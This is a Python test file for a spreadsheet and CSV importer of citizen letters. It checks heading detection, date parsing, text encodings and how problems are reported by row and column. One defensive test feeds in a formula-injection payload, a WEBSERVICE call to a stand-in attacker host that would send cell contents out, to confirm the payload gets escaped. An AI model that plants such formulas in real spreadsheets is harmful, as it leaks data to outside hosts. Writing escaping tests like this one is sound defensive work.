"""What people's spreadsheet programs really save is read whole, or told by row and column."""

import csv
import gzip
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from huiyin.commands import importing
from huiyin.commands.importing import _no_formula
from huiyin.importing.mapping import load
from huiyin.importing.rows import Letter, Problem, Reader
from huiyin.importing.sheets import BadSheet, Table, open_table, read_table
from huiyin.importing.times import local_time
from tests.cast import Cast
from tests.support.sheets import arguments

CASES = Path(__file__).parent / "cases"
LETTERS = load("letters")
HEADING = ("留言编号", "留言主题", "留言时间", "留言详情")
ROW = ("A1", "路灯不亮", "2026/11/02 09:30", "三号路的路灯坏了两周，没有人修。")


def table(name: str) -> Table:
    (path,) = CASES.glob(f"{name}_*")
    if path.suffix == ".gz":
        return read_table(gzip.decompress(path.read_bytes()), LETTERS.needed())
    return open_table(path, LETTERS.needed())


def read(its: Table, mapping: object = LETTERS) -> list[Letter | list[Problem]]:
    now = datetime(2026, 12, 1, tzinfo=UTC)
    reader = Reader(mapping, ZoneInfo("Asia/Shanghai"), now, [], [])  # type: ignore[arg-type]
    reader.since_1904 = its.since_1904
    return [reader.read(number, cells) for number, cells in its.rows]


def letters(its: Table) -> list[Letter]:
    found = read(its)
    assert all(isinstance(each, Letter) for each in found), found
    return [each for each in found if isinstance(each, Letter)]


def problems(its: Table, mapping: object = LETTERS) -> list[tuple[int, str, str]]:
    wrong = [each for each in read(its, mapping) if isinstance(each, list)]
    return [(one.row, one.column, one.code) for each in wrong for one in each]


@pytest.mark.parametrize("name", ["s01", "s02", "s03", "s03b", "s04", "s07", "s07b", "s07c", "s13"])
def test_three_letters_are_read(name: str) -> None:
    assert len(letters(table(name))) == 3


@pytest.mark.parametrize(
    ("name", "note"),
    [
        ("s02", ("other_sheets", "图")),
        ("s03b", ("other_sheets", "旧数据")),
        ("s04", ("heading_in", "2")),
        ("s13", ("hidden_rows", "3")),
    ],
)
def test_what_the_person_should_know_of_the_sheet_is_said(name: str, note: tuple[str, str]) -> None:
    assert note in table(name).notes


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("s05b", "heading_twice"),
        ("s08", "old_workbook"),
        ("s08b", "old_workbook"),
        ("s08c", "page"),
    ],
)
def test_a_file_that_can_not_be_taken_says_why(name: str, code: str) -> None:
    with pytest.raises(BadSheet) as told:
        table(name)
    assert told.value.code == code
    if code == "heading_twice":
        assert told.value.detail == "留言详情: D1, E1"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("s06", [(4, "留言时间", "no_time")]),
        ("s09", [(row, "留言编号", "long_number") for row in (2, 3, 4)]),
        ("s11", [(2, "留言详情", "formula"), (3, "留言详情", "error_cell")]),
        ("s14", [(2, "留言详情", "too_long")]),
        ("s16", [(3, "留言主题", "merged"), (3, "留言时间", "merged")]),
        ("s20", [(3, "留言编号", "total_row")]),
    ],
)
def test_what_is_wrong_is_told_by_the_spreadsheets_own_row_and_column(
    name: str, expected: list[tuple[int, str, str]]
) -> None:
    assert problems(table(name)) == expected


def test_a_telephone_whose_digits_are_lost_is_questioned() -> None:
    mapping = load(str(CASES / "with_person.toml"))
    its = open_table(CASES / "s21_telephone_scientific.csv", mapping.needed())
    assert problems(its, mapping) == [(2, "电话", "scientific")]


def test_texts_and_times_are_read_as_they_are_meant() -> None:
    assert "第一条：路灯不亮。\n第二" in letters(table("s10"))[0].text
    assert [each.number for each in letters(table("s17"))] == ["0012", "0013"]
    assert len(letters(table("s15"))) == 1
    (since_1904,) = letters(table("s12"))
    assert since_1904.received_at == datetime(2026, 11, 2, 1, 30, tzinfo=UTC)
    hours = [
        each.received_at.astimezone(ZoneInfo("Asia/Shanghai")) for each in letters(table("s12b"))
    ]
    assert [f"{each:%d %H:%M}" for each in hours] == [
        "02 00:00", "02 09:30", "02 15:05", "02 00:00", "02 00:00", "02 09:30", "02 00:00", "03 00:00",
    ]  # fmt: skip
    assert [str(each.received_at.astimezone(ZoneInfo("Asia/Shanghai")))[:16] for each in letters(table("s12c"))] == ["2026-11-02 00:00", "2026-11-02 12:00"]  # fmt: skip


@given(st.datetimes(datetime(1990, 1, 1), datetime(2090, 1, 1)).map(lambda at: at.replace(second=0, microsecond=0)))  # fmt: skip
def test_a_time_is_read_however_it_is_written(at: datetime) -> None:
    half, hour = ("上午", at.hour) if at.hour < 12 else ("下午", at.hour - 12 or 12)
    serial = (at - datetime(1899, 12, 30)) / timedelta(days=1)
    for text in (
        f"{at:%Y年%-m月%-d日 %-H:%M}", f"{at:%Y年%-m月%-d日}{at.hour}时{at.minute}分", f"{at:%Y.%-m.%-d %H:%M}",
        f"{at:%Y/%-m/%-d} {half} {hour}:{at:%M}:00", f"{at:%Y-%m-%dT%H:%M:%S}", serial,
        f"{at:%Y/%m/%d (星期一) %H:%M}".replace("星期一", "周一"), f"{at:%Y-%m-%d %H:%M:%S}.000",
    ):  # fmt: skip
        assert local_time(text, ()) == at, text


@pytest.mark.parametrize("text", ["昨天", "2026-13-01", "2026/2/30", "25:00", "99999", "12345", "2026年11月2日 25:00", "11/02/2026"])  # fmt: skip
def test_what_is_no_time_is_none(text: str) -> None:
    assert local_time(text, ()) is None


@given(
    st.lists(st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "Zs")), min_size=5, max_size=30), min_size=1, max_size=4),
    st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "gb18030"]),
    st.sampled_from([",", ";", "\t"]),
)  # fmt: skip
def test_text_of_any_set_and_separator_comes_in_unaltered(
    texts: list[str], encoding: str, separator: str
) -> None:
    out = io.StringIO(newline="")
    lines = [(f"N{n}", *ROW[1:3], f"工资{text}") for n, text in enumerate(texts)]
    csv.writer(out, delimiter=separator).writerows([HEADING, *lines])
    its = read_table(out.getvalue().encode(encoding), LETTERS.needed())
    assert [each.text for each in letters(its)] == [f"工资{text}".strip() for text in texts]


def test_the_dry_run_says_the_sheet_and_its_rows(
    cast: Cast, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (path,) = CASES.glob("s03_*")
    assert importing.run(arguments(path, Path("letters"))) == 0
    said = capsys.readouterr().out
    assert "Sheet1" in said
    assert "3" in said
    assert "字典" in said


def test_a_heading_is_set_by_its_row() -> None:
    book = openpyxl.Workbook()
    for line in (HEADING, ("甲", "乙", "丙", "丁"), HEADING, ROW):
        book.active.append(line)  # type: ignore[union-attr]
    out = io.BytesIO()
    book.save(out)
    its = read_table(out.getvalue(), LETTERS.needed(), heading=3)
    assert [number for number, _ in its.rows] == [4]


@pytest.mark.parametrize("number", ['=WEBSERVICE("http://evil.example/?c="&B2)', "+1", "-1", "@SUM(1)", "＝1", "\t=1", " =1"])  # fmt: skip
def test_no_formula_stands_beside_a_receipt_code(number: str) -> None:
    assert _no_formula(number) == f"'{number}"
    assert _no_formula("A-1") == "A-1"
